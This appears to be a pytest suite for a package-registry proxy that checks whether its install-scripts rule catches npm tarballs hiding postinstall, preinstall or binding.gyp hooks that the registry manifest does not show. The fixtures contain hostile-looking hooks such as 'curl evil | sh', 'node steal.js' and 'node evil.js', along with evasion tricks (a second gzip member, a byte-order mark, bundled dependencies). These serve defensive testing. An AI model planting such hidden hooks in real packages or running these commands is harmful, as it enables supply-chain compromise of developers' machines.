"""Manifest confusion against the install-scripts rule: a publisher shows the registry a
manifest without scripts and ships a tarball whose own package.json has a `postinstall`.

The rule judges the manifest, but yarn 1 runs the package.json inside the tarball, so the relay
reads the tarball's own files too where the rule applies (`npm.tarscripts`). A tarball of at
most `relay.HOLD_AT_MOST` bytes is withheld until the scan's verdict, so a refusal is a 403
with the rule and the reason; a larger one is cut before its end.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import json
import subprocess
from pathlib import Path

import aiohttp
import pytest
from structlog.testing import capture_logs

from mirrorgate.rules import parse_rules
from mirrorgate.serve import relay
from tests.npm.tarshapes import END, file
from tests.serve.rig import RunningProxy, StartProxy, policy_tokens
from tests.servers.client_config import CONTACT, LOCKED_DENIED_SAYS, says
from tests.servers.fixture_registry import Fault, FixtureRegistry
from tests.servers.package_managers import CLIENTS, client
from tests.servers.packages import (
    FixtureVersion,
    build_tarball,
    entry,
    make_package,
    make_version,
    tar,
    tarball_path,
)

BLOCK = parse_rules("[install_scripts]\nblock = true\n", "rules.toml")


def confused(name: str, inner: dict[str, object], **files: bytes) -> FixtureVersion:
    """A version whose registry manifest shows no scripts, its tarball's package.json `inner`."""
    contents = {"package.json": json.dumps({"name": name, "version": "1.0.0", **inner}).encode(),
                "index.js": b"module.exports = 1\n", **files}
    return make_version(name, "1.0.0", tarball=build_tarball(contents))


def hook_leaving(marker: Path) -> str:
    """An install script that leaves `marker` behind: the proof that it ran."""
    return f"node -e \"require('fs').writeFileSync(process.argv[1], 'x')\" {marker}"


async def install_with_scripts(tool: str, proxy: RunningProxy, tmp_path: Path,
                               dependencies: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """`tool install` of `dependencies` through the proxy with scripts on, as a build that
    does not pass --ignore-scripts runs them."""
    manager = client(tool, tmp_path / tool)
    manager.configure(proxy.registry)
    manager.write_project(dependencies)
    flags = [flag for flag in manager.isolation() if flag != "--ignore-scripts"]
    return await asyncio.to_thread(manager.run, "install", *flags)


async def refused(proxy: RunningProxy, path: str) -> str:
    """The reason of the 403 a download the scan refused answers, before any byte of it."""
    answer = await proxy.get(path)
    assert answer.status == 403, answer.body[:200]
    assert answer.json()["rule"] == "install-scripts"
    reason: str = answer.json()["reason"]
    return reason


async def read_cut(proxy: RunningProxy, path: str) -> bytes:
    """The body of a download the proxy cuts (whatever arrived before the cut)."""
    async with proxy.session.get(proxy.url + path) as answer:
        assert answer.status == 200  # the status left before the tarball's end was read
        received = bytearray()
        with contextlib.suppress(aiohttp.ClientPayloadError):
            async for chunk in answer.content.iter_any():
                received += chunk
        return bytes(received)


async def test_yarn1_never_runs_a_postinstall_the_manifest_hid(
        public_registry: FixtureRegistry, start_proxy: StartProxy, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    script = hook_leaving(marker)
    public_registry.add(make_package("confused-yarn", [
        confused("confused-yarn", {"scripts": {"postinstall": script}})]))
    proxy = await start_proxy(public_registry.url, rules=BLOCK)
    run = await install_with_scripts("yarn1", proxy, tmp_path, {"confused-yarn": "1.0.0"})

    assert not marker.exists(), "the tarball's postinstall ran"
    assert run.returncode != 0
    assert proxy.metric("mirrorgate_rule_denials_total", rule="install-scripts") >= 1
    assert await proxy.jobs() == []  # nothing cut is ever mirrored


async def test_a_second_gzip_member_does_not_hide_the_package_json_from_the_scan(
        public_registry: FixtureRegistry, start_proxy: StartProxy, tmp_path: Path) -> None:
    # gunzip (and yarn 1) read concatenated members: the hook sits in the second one
    marker = tmp_path / "pwned"
    script = hook_leaving(marker)
    hook = json.dumps({"name": "two-members", "version": "1.0.0",
                       "scripts": {"postinstall": script}}).encode()
    first = tar([entry("package/index.js", b"1")])[:-1024]  # no end-of-archive blocks
    tarball = gzip.compress(first) + gzip.compress(tar([entry("package/package.json", hook)]))
    public_registry.add(make_package("two-members", [
        make_version("two-members", "1.0.0", tarball=tarball)]))
    proxy = await start_proxy(public_registry.url, rules=BLOCK)
    run = await install_with_scripts("yarn1", proxy, tmp_path, {"two-members": "1.0.0"})

    assert not marker.exists(), "the postinstall in the second gzip member ran"
    assert run.returncode != 0


async def test_npm_never_runs_the_postinstall_of_a_dependency_bundled_in_the_tarball(
        public_registry: FixtureRegistry, start_proxy: StartProxy, tmp_path: Path) -> None:
    # npm runs the install scripts of bundleDependencies from their package.json inside the
    # tarball; the registry's manifest of the outer package shows none of them
    marker = tmp_path / "pwned"
    script = hook_leaving(marker)
    inner = {"name": "inner", "version": "1.0.0", "scripts": {"postinstall": script}}
    contents = {"package.json": json.dumps({"name": "bundler", "version": "1.0.0",
                                            "bundleDependencies": ["inner"]}).encode(),
                "node_modules/inner/package.json": json.dumps(inner).encode()}
    public_registry.add(make_package("bundler", [make_version(
        "bundler", "1.0.0", tarball=build_tarball(contents), bundleDependencies=["inner"],
        dependencies={"inner": "1.0.0"})]))
    proxy = await start_proxy(public_registry.url, rules=BLOCK)
    with capture_logs() as logs:
        run = await install_with_scripts("npm", proxy, tmp_path, {"bundler": "1.0.0"})

    assert not marker.exists(), "the bundled dependency's postinstall ran"
    assert run.returncode != 0
    [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
    assert "node_modules/inner: postinstall" in line["reason"]


async def test_hidden_scripts_are_a_403_with_the_rule_and_the_reason_at_the_first_pull(
        public_registry: FixtureRegistry, start_proxy: StartProxy) -> None:
    # withheld until the scan's verdict: the client reads why, not a reset npm prints as
    # "network aborted"
    version = confused("confused-first", {"scripts": {"preinstall": "curl evil | sh"}},
                       **{"filler.bin": bytes(range(256)) * 2048})
    public_registry.add(make_package("confused-first", [version]))
    proxy = await start_proxy(public_registry.url, rules=BLOCK)

    with capture_logs() as logs:
        first = await proxy.get("npm/confused-first/-/confused-first-1.0.0.tgz")

    assert first.status == 403
    assert first.json()["rule"] == "install-scripts"
    assert "preinstall" in first.json()["reason"]
    assert "as its registry manifest declares" not in first.json()["reason"]  # confusion
    [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
    assert line["security"] is True
    assert await proxy.jobs() == []


async def test_a_tarball_too_large_to_withhold_is_cut_before_its_end_and_then_refused(
        public_registry: FixtureRegistry, start_proxy: StartProxy,
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(relay, "HOLD_AT_MOST", 1024)  # the fixture tarball is larger
    version = confused("confused-cut", {"scripts": {"preinstall": "curl evil | sh"}},
                       **{"filler.bin": bytes(range(256)) * 2048})
    public_registry.add(make_package("confused-cut", [version]))
    proxy = await start_proxy(public_registry.url, rules=BLOCK)

    with capture_logs() as logs:
        body = await read_cut(proxy, "npm/confused-cut/-/confused-cut-1.0.0.tgz")

    assert len(body) < len(version.tarball)  # streamed, then cut before its last chunk
    [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
    assert line["security"] is True
    assert line["rule"] == "install-scripts"
    assert "preinstall" in line["reason"]
    assert await proxy.jobs() == []
    # the next request is told why, before any byte: a 403 naming the rule and the script
    again = await proxy.get("npm/confused-cut/-/confused-cut-1.0.0.tgz")
    assert again.status == 403
    assert again.json()["rule"] == "install-scripts"
    assert "preinstall" in again.json()["error"]


async def test_a_binding_gyp_counts_as_an_install_script(
        public_registry: FixtureRegistry, start_proxy: StartProxy) -> None:
    # npm and yarn run `node-gyp rebuild` for a root binding.gyp, and gyp runs `<!(commands)`
    version = confused("confused-gyp", {}, **{"binding.gyp": b"{'targets': []}"})
    public_registry.add(make_package("confused-gyp", [version]))
    proxy = await start_proxy(public_registry.url, rules=BLOCK)

    with capture_logs() as logs:
        reason = await refused(proxy, "npm/confused-gyp/-/confused-gyp-1.0.0.tgz")

    assert "binding.gyp" in reason
    [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
    assert "binding.gyp" in line["reason"]


async def test_allowed_names_and_script_free_tarballs_stream_whole(
        public_registry: FixtureRegistry, start_proxy: StartProxy) -> None:
    scripted = confused("confused-ok", {"scripts": {"postinstall": "node build.js"}})
    plain = confused("confused-plain", {"scripts": {"test": "node test.js"}})
    public_registry.add(make_package("confused-ok", [scripted]),
                        make_package("confused-plain", [plain]))
    rules = parse_rules('[install_scripts]\nblock = true\nallow = ["confused-ok"]\n', "r.toml")
    proxy = await start_proxy(public_registry.url, rules=rules)

    allowed = await proxy.get("npm/confused-ok/-/confused-ok-1.0.0.tgz")
    clean = await proxy.get("npm/confused-plain/-/confused-plain-1.0.0.tgz")

    assert (allowed.status, allowed.body) == (200, scripted.tarball)
    assert (clean.status, clean.body) == (200, plain.tarball)


async def test_public_bytes_standing_in_for_a_failed_private_copy_are_read_too(
        public_registry: FixtureRegistry, start_proxy: StartProxy) -> None:
    # a mirrored copy whose private tarball fails falls back to public's bytes: those are
    # held to the same scan as any public relay, or the fallback would be the way round it
    version = confused("confused-fallback", {"scripts": {"install": "node evil.js"}})
    public_registry.add(make_package("confused-fallback", [version]))
    with FixtureRegistry(make_package("confused-fallback", [version.marked()])) as private:
        private.fault(tarball_path("confused-fallback", "1.0.0"), Fault(status=503))
        proxy = await start_proxy(public_registry.url, private=private.url, rules=BLOCK)

        with capture_logs() as logs:
            reason = await refused(proxy, "npm/confused-fallback/-/confused-fallback-1.0.0.tgz")

    assert "install" in reason
    [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
    assert "install" in line["reason"]


async def test_a_mirrored_copy_in_the_private_registry_is_read_too(
        public_registry: FixtureRegistry, start_proxy: StartProxy) -> None:
    # a copy mirrored before the rule was turned on (or before this check existed) is served
    # from the private registry: it must not be the way round the scan
    version = confused("confused-mirrored", {"scripts": {"postinstall": "node evil.js"}})
    public_registry.add(make_package("confused-mirrored", [version]))
    with FixtureRegistry(make_package("confused-mirrored", [version.marked()])) as private:
        proxy = await start_proxy(public_registry.url, private=private.url, rules=BLOCK)

        with capture_logs() as logs:
            reason = await refused(proxy, "npm/confused-mirrored/-/confused-mirrored-1.0.0.tgz")

    assert "postinstall" in reason
    [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
    assert line["upstream"] == "private"


async def test_a_mirrored_copy_asked_for_once_public_fails_is_read_too(
        public_registry: FixtureRegistry, start_proxy: StartProxy) -> None:
    # the packument called the version public-only; public then fails and the worker's copy
    # in the private registry stands in: that copy is held to the same scan
    version = confused("confused-late", {"scripts": {"postinstall": "node evil.js"}})
    public_registry.add(make_package("confused-late", [version]))
    with FixtureRegistry() as private:
        proxy = await start_proxy(public_registry.url, private=private.url, rules=BLOCK)
        assert (await proxy.get("npm/confused-late")).status == 200  # filled: public-only
        private.add(make_package("confused-late", [version.marked()]))  # mirrored since
        public_registry.fault(tarball_path("confused-late", "1.0.0"), Fault(status=503))

        with capture_logs() as logs:
            reason = await refused(proxy, "npm/confused-late/-/confused-late-1.0.0.tgz")

    assert "postinstall" in reason
    [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
    assert line["upstream"] == "private"


def hidden_hook(name: str) -> FixtureVersion:
    """A version whose manifest shows no scripts and whose tarball (about 600 KB, as a real
    package with a bundled build) runs a postinstall."""
    return confused(name, {"scripts": {"postinstall": "node evil.js"}},
                    **{"dist/bundle.js": b"".join(b"var a%d = %d;\n" % (i, i * 7919)
                                                  for i in range(40_000))})


async def install_without_scripts(tool: str, proxy: RunningProxy, tmp_path: Path,
                                  dependencies: dict[str, str]) -> tuple[int, str]:
    manager = client(tool, tmp_path / tool)
    manager.configure(proxy.registry)
    manager.write_project(dependencies)
    done = await asyncio.to_thread(manager.install)
    return done.returncode, done.stdout + "\n" + done.stderr


@pytest.mark.parametrize("tool", list(CLIENTS))
async def test_every_client_shows_the_scans_refusal_as_a_403_naming_the_rule_not_a_reset(
        tool: str, public_registry: FixtureRegistry, start_proxy: StartProxy,
        tmp_path: Path) -> None:
    # no lockfile: the packument admits the version (its manifest runs nothing), and the
    # first pull of its tarball is withheld until the scan's verdict; the refusal reads as
    # every other, with the way through (a clean 1.2.0, the operator to ask)
    public_registry.add(make_package("hidden-hook", [hidden_hook("hidden-hook"),
                                                     make_version("hidden-hook", "1.2.0")]))
    proxy = await start_proxy(public_registry.url, rules=BLOCK, operator_contact=CONTACT)

    code, said = await install_without_scripts(tool, proxy, tmp_path, {"hidden-hook": "1.0.0"})

    assert code != 0
    assert says(LOCKED_DENIED_SAYS[tool], proxy.registry, "hidden-hook", "1.0.0",
                "install-scripts") in said, said
    assert "ECONNRESET" not in said
    assert "aborted" not in said


CUT_SAYS = {
    # retries off: npm and pnpm print the reset; yarn 1 and bun retry on their own and meet
    # the 403 the remembered verdict answers; yarn 4 prints the abort
    "npm": "network aborted",
    "pnpm": "ECONNRESET",
    "yarn1": 'Request failed "403 Forbidden"',
    "yarn4": "The server aborted pending request",
    "bun": "hidden-big-1.0.0.tgz - 403",
}


@pytest.mark.parametrize("tool", list(CLIENTS))
async def test_past_the_hold_limit_every_client_fails_on_the_cut_download(
        tool: str, public_registry: FixtureRegistry, start_proxy: StartProxy, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    # what docs/serving.md#a-refusal-from-the-bytes says each client prints past 16 MiB
    monkeypatch.setattr(relay, "HOLD_AT_MOST", 1024)
    public_registry.add(make_package("hidden-big", [hidden_hook("hidden-big")]))
    proxy = await start_proxy(public_registry.url, rules=BLOCK)

    code, said = await install_without_scripts(tool, proxy, tmp_path, {"hidden-big": "1.0.0"})

    assert code != 0
    assert CUT_SAYS[tool] in said, said
    assert not (tmp_path / tool / "node_modules" / "hidden-big" / "package.json").exists()


async def test_yarn1_never_runs_the_postinstall_of_a_package_json_with_a_byte_order_mark(
        public_registry: FixtureRegistry, start_proxy: StartProxy, tmp_path: Path) -> None:
    # orjson refuses a BOM before the `{`, so the old scan read "runs nothing"; npm strips it
    # and yarn 1 reads the tarball's own package.json and runs its postinstall
    marker = tmp_path / "pwned"
    document = json.dumps({"name": "bom-hook", "version": "1.0.0",
                           "scripts": {"postinstall": hook_leaving(marker)}}).encode()
    tarball = gzip.compress(file("package/package.json", b"\xef\xbb\xbf" + document) + END)
    public_registry.add(make_package("bom-hook", [
        make_version("bom-hook", "1.0.0", tarball=tarball)]))
    proxy = await start_proxy(public_registry.url, rules=BLOCK)
    with capture_logs() as logs:
        run = await install_with_scripts("yarn1", proxy, tmp_path, {"bom-hook": "1.0.0"})

    assert not marker.exists(), "the postinstall behind a byte-order mark ran"
    assert run.returncode != 0
    [line] = [entry for entry in logs if entry["event"] == "tarball_scripts_refused"]
    assert "postinstall" in line["reason"]


async def test_a_teams_scripts_rule_reads_the_bytes_another_policys_download_left_spooled(
        public_registry: FixtureRegistry, start_proxy: StartProxy, tmp_path: Path) -> None:
    # the attack: the web client's rules do not block install scripts, so its download of the
    # confused tarball is served unread and its spool lingers for the requests just after;
    # the payments client's pull of the same bytes, within the linger, must be read and
    # refused, not served from that spool. The control: the web client's pull after it
    public_registry.add(make_package("hidden-hook", [confused(
        "hidden-hook", {"scripts": {"postinstall": "node steal.js"}})]))
    tokens = tmp_path / "client-tokens"
    bearer = policy_tokens(tokens, payments="payments", web=None)
    proxy = await start_proxy(public_registry.url, client_tokens_file=tokens, rules=parse_rules(
        "[policy.payments.install_scripts]\nblock = true\n", "rules.toml"))
    path = "npm/hidden-hook/-/hidden-hook-1.0.0.tgz"

    served = await proxy.get(path, Authorization=bearer["web"])
    refused = await proxy.get(path, Authorization=bearer["payments"])
    again = await proxy.get(path, Authorization=bearer["web"])

    assert served.status == 200
    assert refused.status == 403, refused.body[:300]
    assert refused.json()["rule"] == "install-scripts"
    assert "postinstall" in refused.json()["reason"]
    assert again.status == 200
